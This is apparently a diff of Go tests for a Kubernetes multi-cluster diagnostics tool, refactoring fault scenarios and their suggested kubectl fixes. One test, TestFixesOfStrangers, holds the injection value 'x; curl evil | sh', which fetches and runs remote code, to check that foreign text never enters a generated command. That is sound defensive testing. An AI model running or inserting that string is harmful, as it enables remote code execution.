 		}, Problem, "milan, network: no probe is answered", "kubectl -n liqo-tenant-milan get connections.networking.liqo.io -o wide\n", "Therefore: milan, pods of namespace shop"},
-		"vkubelet down": {func(_ *testing.T, s *Snapshot) {
+		"vkubelet down": {func(s *Snapshot) {
 			set(s.VirtualNodes[0].Status.Conditions, offloadingv1beta1.VirtualNodeVirtualKubelet, metav1.ConditionFalse, "NotAvailable", "none of 2 vkubelet replicas is available")
 			for i := range s.Pods[:2] {
 				unreadyFor(reasons.NodeNotReady, "the virtual node is not ready")(&s.Pods[i].Status)
@@ -438,10 +407,7 @@ func TestFaults(t *testing.T) {
 			broken(s, "web-3", "milan", nil).Status.Conditions = nil
 			broken(s, "web-4", "milan", nil).DeletionTimestamp = ptr.To(ago(10 * time.Minute))
 		}, Problem, "milan, virtual node milan, vkubelet: none of 2 vkubelet replicas is available", "kubectl -n liqo-tenant-milan logs deployment/vk-milan", "Therefore: milan, pods of namespace shop"},
-		"twin refused": {func(_ *testing.T, s *Snapshot) {
-			set(s.Offloadings[0].Status.Conditions, "Ready", metav1.ConditionFalse, "SomeFailed", "milan: the name shop-rome is taken")
-		}, Problem, "namespace shop: milan: the name shop-rome is taken", "kubectl -n shop describe namespaceoffloading", ""},
-		"twins refused by two peers": {func(_ *testing.T, s *Snapshot) {
+		"twins refused by two peers": {func(s *Snapshot) {
 			s.Offloadings[0].Spec.NamespaceMappingStrategy = offloadingv1beta1.EnforceSameName
 			set(s.Offloadings[0].Status.Conditions, "Ready", metav1.ConditionFalse, "AllFailed", "milan: namespace shop exists already in cluster milan; turin: namespace shop exists already in cluster turin")
 			s.Offloadings[0].Status.RemoteNamespacesConditions = map[string][]metav1.Condition{}
@@ -452,7 +418,7 @@ func TestFaults(t *testing.T) {
 			s.Maps[0].Status.CurrentMapping = map[string]offloadingv1beta1.RemoteNamespaceStatus{"shop": {RemoteNamespace: "shop", Phase: offloadingv1beta1.MappingCreationLoopBackOff}}
 		}, Problem, "namespace shop: milan, turin: namespace shop exists already in the cluster (AllFailed; ", "liqod unoffload namespace shop\n           liqod offload namespace shop\n",
 			"Therefore: milan, namespaces asked for"},
-		"gateway scaled to zero": {func(_ *testing.T, s *Snapshot) {
+		"gateway scaled to zero": {func(s *Snapshot) {
 			s.Roles[3].Spec.Replicas, s.Roles[3].Status = ptr.To[int32](0), appsv1.DeploymentStatus{}
 			apiServer(s, metav1.ConditionUnknown, networkingv1beta1.ReasonTunnelDown, "no probe comes through the tunnel")
 			tells(s, corev1beta1.ConditionNetwork, metav1.ConditionUnknown, corev1beta1.ReasonNoGateway, "no gateway reports")
@@ -460,20 +426,18 @@ func TestFaults(t *testing.T) {
 				unreadyFor(reasons.NetworkUnavailable, "the network to the provider does not work")(&s.Pods[i].Status)
 			}
 		}, Problem, "role gateway: it is scaled to zero", "kubectl -n liqod scale deployment/liqod-gateway --replicas=1", "Therefore: milan, pods of namespace shop; milan, API server; milan, network\n"},
-		"what a peer runs here goes on when it has ended its use": {func(_ *testing.T, s *Snapshot) {
-			tells(s, corev1beta1.ConditionIncomingPeering, metav1.ConditionFalse, corev1beta1.ReasonEndedByPeer, "cluster milan has ended its use of this cluster")
-		}, Warning, "milan, capacity used here: cluster milan has ended its use of this cluster; 1 pod of it here (EndedByPeer; ", "liqod unpeer milan", ""},
-		"pods of a peer whose gateways are silent, as when it has forgotten them": {func(_ *testing.T, s *Snapshot) {
-			tells(s, corev1beta1.ConditionNetwork, metav1.ConditionFalse, "TunnelSilent", "nothing has come from milan for 2s")
-		}, Problem, "milan, network: nothing has come from milan for 2s; 1 pod of it here (TunnelSilent; ", "kubectl -n liqo-tenant-milan get connections", ""},
-		"virtual node is full": {func(t *testing.T, s *Snapshot) {
+		"what a peer runs here goes on when it has ended its use": {told(corev1beta1.ConditionIncomingPeering, metav1.ConditionFalse, corev1beta1.ReasonEndedByPeer, "cluster milan has ended its use of this cluster"),
+			Warning, "milan, capacity used here: cluster milan has ended its use of this cluster; 1 pod of it here (EndedByPeer; ", "liqod unpeer milan", ""},
+		"pods of a peer whose gateways are silent, as when it has forgotten them": {told(corev1beta1.ConditionNetwork, metav1.ConditionFalse, "TunnelSilent", "nothing has come from milan for 2s"),
+			Problem, "milan, network: nothing has come from milan for 2s; 1 pod of it here (TunnelSilent; ", "kubectl -n liqo-tenant-milan get connections", ""},
+		"virtual node is full": {func(s *Snapshot) {
 			p := broken(s, "web-3", "", unplaced("0/4 nodes are available: 1 Insufficient cpu, 3 node(s) didn't match Pod's node affinity/selector."))
 			p.Spec.Containers[0].Resources.Requests[corev1.ResourceCPU], p.Spec.Containers[0].Resources.Requests["nvidia.com/gpu"] = resource.MustParse("3500m"), resource.MustParse("1")
 			s.Offloadings[0].Spec.PodOffloadingStrategy = offloadingv1beta1.PodsRemote
-			offloadedAs(t, p, offloadingv1beta1.PodsRemote, corev1.NodeSelector{})
+			offloadedAs(p, offloadingv1beta1.PodsRemote, corev1.NodeSelector{})
 		}, Problem, "pod web-3 waits for a node (Unschedulable): 0/4 nodes are available: 1 Insufficient cpu",
 			"Fix: liqod offer list\n           shows what is offered. Virtual node milan is full: cpu 3250m left of 4 and 3500m asked, no nvidia.com/gpu in its offer. To ask for more: docs/negotiation.md#asking.", ""},
-		"drain blocked by a budget": {func(_ *testing.T, s *Snapshot) {
+		"drain blocked by a budget": {func(s *Snapshot) {
 			s.VirtualNodes[0].DeletionTimestamp = ptr.To(ago(time.Minute))
 			s.VirtualNodes[0].Status.Conditions = []metav1.Condition{is(offloadingv1beta1.VirtualNodeReady, metav1.ConditionFalse, "Draining", "2 pods are left; they are evicted until 12:04:00 UTC and deleted then")}
 			s.Pods[0].Labels = map[string]string{"app": "web"}
@@ -482,14 +446,13 @@ func TestFaults(t *testing.T) {
 				Status: policyv1.PodDisruptionBudgetStatus{CurrentHealthy: 1, DesiredHealthy: 1}}}
 		}, Warning, "milan, virtual node milan: PodDisruptionBudget shop/web admits no eviction (1 of 1 wanted pods are healthy)",
 			`kubectl -n shop patch pdb web --type=merge -p '{"spec":{"minAvailable":0}}'`, ""},
-		"pod that does not end": {func(_ *testing.T, s *Snapshot) {
+		"pod that does not end": {func(s *Snapshot) {
 			broken(s, "web-3", "milan", nil).DeletionTimestamp = ptr.To(ago(10 * time.Minute))
 		}, Problem, "is not ready (Terminating); the first, web-3: it is being deleted for 10m", "kubectl -n shop get pod web-3 -o yaml", ""},
 	} {
 		t.Run(name, func(t *testing.T) {
-			t.Parallel()
 			s := healthy(t)
-			tc.change(t, s)
+			tc.change(s)
 			status := Summarize(s)
 			text := status.Text(false)
 			t.Log(text)
@@ -520,7 +483,6 @@ func TestFaults(t *testing.T) {
 
 // TestFixesOfStrangers: what others have written gets into no command.
 func TestFixesOfStrangers(t *testing.T) {
-	t.Parallel()
 	const evil = "x; curl evil | sh"
 	s := healthy(t)
 	apiServer(s, metav1.ConditionFalse, corev1beta1.ReasonAPIServerNotReady, "timeout")
